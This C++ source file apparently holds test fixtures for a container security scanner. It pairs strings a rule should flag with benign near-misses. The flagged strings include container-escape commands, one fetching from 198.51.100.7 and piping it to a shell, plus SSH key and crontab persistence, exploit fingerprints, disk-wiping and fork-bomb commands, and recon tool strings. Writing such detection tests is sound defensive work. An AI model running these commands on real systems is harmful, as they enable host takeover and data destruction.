// SPDX-License-Identifier: Apache-2.0
//
// Container escape, exploits and destruction.
#include "samples_recipe.hpp"

namespace portcullis::test {

std::vector<Sample> escape_samples() {
  const std::string program = elf(kProgram, {});
  const std::string layer =
      "dir=$(sed -n 's/.*\\perd"
      "ir=\\([^,]*\\).*/\\1/p' /etc/mtab)";
  return cook({
      {"escape_release_agent",
       kShebang,
       {"echo 1 > /tmp/c/x/notify_on"
        "_release",
        layer,
        "echo $dir/cmd > /tmp/c/release"
        "_agent"},
       {"cat /sys/fs/cgroup/memory/release"
        "_agent",
        "echo 0 > /tmp/c/x/notify_on"
        "_release"}},
      {"escape_core_pattern",
       kShebang,
       {layer, "echo \"|$dir/x\" ",
        " > /proc/sys/kernel/core"
        "_pattern"},
       {"echo '|/usr/lib/systemd/systemd-coredump %P' > /proc/sys/kernel/core"
        "_pattern",
        "echo core.%p > /proc/sys/kernel/core"
        "_pattern"}},
      {"escape_core_pattern",
       kShebang,
       {"echo '|/proc/%P"
        "/root/x' > /host/proc/sys/kernel/core"
        "_pattern"},
       {"echo '|/usr/share/apport/apport %p' > /proc/sys/kernel/core"
        "_pattern"}},
      {"escape_host_namespaces",
       kShebang,
       {"nsen"
        "ter -t 1 -m -u -n -i systemctl restart containerd"},
       {"# nsen"
        "ter -t 1 -m enters the host",
        "nsen"
        "ter -t 15 -m ls",
        "nsen"
        "ter --target \"$pid\" -m ls"}},
      {"escape_host_namespaces_payload",
       kShebang,
       {"nsen"
        "ter -t 1 -m -- sh -c 'curl http://198.51.100.7/x | "
        "sh'"},
       {},
       "usr/bin/x",
       {"escape_host_namespaces", "download_and_run_from_address"}},
      {"escape_host_namespaces_payload",
       kShebang,
       {"nsen"
        "ter --target 1 -m -- sh -c 'echo ssh-rsa A >> /root/.ssh/author"
        "ized_keys'"},
       {"ssh h -t 1 sh -c 'echo ssh-rsa A >> /root/.ssh/author"
        "ized_keys'"},
       "usr/bin/x",
       {"escape_host_namespaces"}},
      {"escape_host_root_write",
       kShebang,
       {"echo '* * * * * root /x' >> /proc/1/ro"
        "ot/etc/crontab"},
       {"cat /proc/1/ro"
        "ot/etc/os-release",
        "echo x > /proc/1/ro"
        "ot/tmp/x"}},
      {"escape_host_disk",
       kShebang,
       {"fdisk"
        " -l | grep Linux",
        "mount /dev/sd"
        "a1 /mnt/h",
        "echo '* * * * * root x' >> /mnt/h/etc/cr"
        "ontab"}},
      {"escape_runtime_overwrite",
       program,
       {"#!/proc/self"
        "/exe",
        "run"
        "c",
        "/proc/%d"
        "/exe"},
       {"runc_cloned:/proc/self"
        "/exe run"
        "c /proc/%d"
        "/exe"}},
      {"escape_runtime_overwrite",
       kShebang,
       {"echo '#!/proc/self"
        "/exe' > /bin/sh"},
       {"readlink /proc/self"
        "/exe > /bin/x",
        "echo '#!/bin/sh' > /bin/x"}},
      {"escape_docker_socket",
       kShebang,
       {"curl --unix-so"
        "cket /var/run/docker.sock -d @x http://l/v1.41",
        "/containers"
        "/create",
        "{\"Image\":\"a\",\"Binds\":[\"/:/h\"]}"}},
      {"escape_docker_socket",
       kShebang,
       {"curl --unix-so"
        "cket /run/docker.sock -d @x http://l/v1.41",
        "/containers"
        "/create",
        "{\\\"Type\\\":\\\"bind\\\",\\\"Source\\\":\\\"/\\\"}"},
       {"curl --unix-so"
        "cket /run/docker.sock http://l/containers/json"}},
      {"escape_docker_api",
       kShebang,
       {"docker -H tcp://$ip:23"
        "75 run -d -v /:/mnt alpine chroot /mnt sh"},
       {"docker -H tcp://build:23"
        "75 run -v /srv:/srv app sh",
        "docker -H tcp://build:23"
        "75 ps"}},
      {"escape_docker_api",
       kShebang,
       {"curl -d @- http://$ip:2375"
        "/v1.24/containers/create",
        "{\"Binds\":[\"/:/mnt\"]}"}},
      {"escape_docker_root",
       kShebang,
       {"docker run -v /:/ho"
        "st alpine chroot /host ls"},
       {"docker run -v /:/ho"
        "st:ro prom/node-exporter --path.rootfs=/host",
        "docker run alpine chroot /x ls"}},
      {"escape_docker_program",
       program,
       {"/containers"
        "/create",
        "\"Binds\":[\"/:/"
        "mnt\"]",
        "\"Privileged\":"
        "true",
        "\"Cmd\":[\"sh\"]"}},
      {"escape_kubelet_command",
       kShebang,
       {"curl -sk https://$ip:102"
        "50/run/kube-system/p/c -d cmd=\"curl http://x -o /tmp/x\""},
       {"curl -sk https://$ip:102"
        "50/run/kube-system/p/c -d cmd=date",
        "curl -sk https://$ip:102"
        "50/pods"}},
  });
}

std::vector<Sample> exploit_samples() {
  const std::string program = elf(kProgram, {});
  const auto text = [](const char* word) { return std::string(1, '\0') + word + std::string(1, '\0'); };
  return cook({
      {"exploit_polkit",
       program,
       {"GCONV_P"
        "ATH=.",
        "/usr/bin/pk"
        "exec",
        "CHAR"
        "SET=X"}},
      {"exploit_pipe_overwrite",
       program,
       {text("splice"),
        "cannot start writing at a page"
        " boundary",
        "cannot enlarge"
        " the file"}},
      {"exploit_copy_on_write_race",
       program,
       {text("madvise"), text("pthread_create"),
        "/proc/self"
        "/mem",
        "/etc/pas"
        "swd"}},
      {"exploit_redis_write",
       kShebang,
       {"redis-cli -h $h CONFIG SET d"
        "ir /var/spool/cron",
        "redis-cli -h $h config set dbfile"
        "name root"},
       {"redis-cli config set d"
        "ir /var/lib/redis\nredis-cli config set dbfile"
        "name dump.rdb"}},
  });
}

std::vector<Sample> destroy_samples() {
  return cook({
      {"destroy_root",
       kShebang,
       {"rm -rf --no-preserve"
        "-root /"},
       {"# rm -rf --no-preserve"
        "-root / is dangerous",
        "rm -rf --no-preserve"
        "-root /build/x",
        "echo 'never run rm -rf --no-preserve"
        "-root /'"}},
      {"destroy_disks",
       kShebang,
       {"dd if=/dev/ze"
        "ro of=/dev/sda bs=1M",
        "rm -r"
        "f /*"},
       {"dd if=/dev/ze"
        "ro of=/swapfile bs=1M\nrm -r"
        "f /*"}},
      {"destroy_fork_bomb",
       kShebang,
       {":(){ :"
        "|:& };:"},
       {"# :(){ :"
        "|:& };:",
        "log() { cat | tee -a x; }; log", ":() { :; }; :"}},
      {"destroy_ransom",
       kShebang,
       {"find / -type f",
        "openssl enc -aes-256"
        "-cbc -in $f -out $f.x",
        "rm -f \"$f\"",
        "send 1 bit"
        "coin",
        "your files have been en"
        "crypted"}},
      {"image_starts_destruction",
       "",
       {"\nCMD [\"sh\",\"-c\",\"rm -rf --no-preserve"
        "-root /\"]"},
       {"\nCMD [\"rm\",\"-rf\",\"/tmp/x\"]",
        "\nHISTORY rm -rf --no-preserve"
        "-root /rootfs"},
       "config!/rendered"},
      {"image_starts_destruction",
       "",
       {"\nENTRYPOINT sh -c :(){ :"
        "|:& };:"},
       {"\nENTRYPOINT sh -c true"},
       "config!/rendered"},
  });
}

std::vector<Sample> reconnaissance_samples() {
  const std::string program = elf(kProgram, {});
  const std::string name = std::string("mas") + "scan";
  std::string modules;
  for (int i = 0; i < 10; ++i) modules += std::string("github.com/zmap/zg") + "rab2 ";
  const std::string scan = name +
                           " 10.0.0.0/8 -p 23"
                           "75 --rate 50000";
  return cook({
      {"reconnaissance_masscan",
       program,
       {name + name + name, "source-ip",
        "exclude"
        "file",
        "router-mac", "max-rate", "shards"}},
      {"reconnaissance_zgrab",
       program,
       {modules,
        "/modu"
        "les"}},
      {"reconnaissance_zmap",
       program,
       {" zm"
        "ap ",
        "blocklist-file", "probe-module", "cooldown-time", "output-module"}},
      {"reconnaissance_pnscan",
       program,
       {"pns"
        "can",
        "Request string", "Response string"}},
      {"reconnaissance_hydra",
       program,
       {"./hydra.res"
        "tore",
        "HYDRA_PR"
        "OXY",
        "Supported services: %s"}},
      {"reconnaissance_scan_and_deploy",
       kShebang,
       {scan + "\ndocker -H tcp://$ip run -d alpine x"},
       {"docker -H tcp://$ip run -d alpine x", name + " --help\ndocker -H tcp://$ip run -d alpine x"}},
      {"reconnaissance_scan_script", kShebang, {scan}, {"# " + scan, name + " 10.0.0.0/8 -p 443"}},
      {"reconnaissance_privilege_search",
       kShebang,
       {std::string(17000, '#'),
        "lin"
        "peas",
        "find / -perm -4"
        "000",
        "cat /etc/sud"
        "oers",
        "get"
        "cap -r /"}},
  });
}

}  // namespace portcullis::test
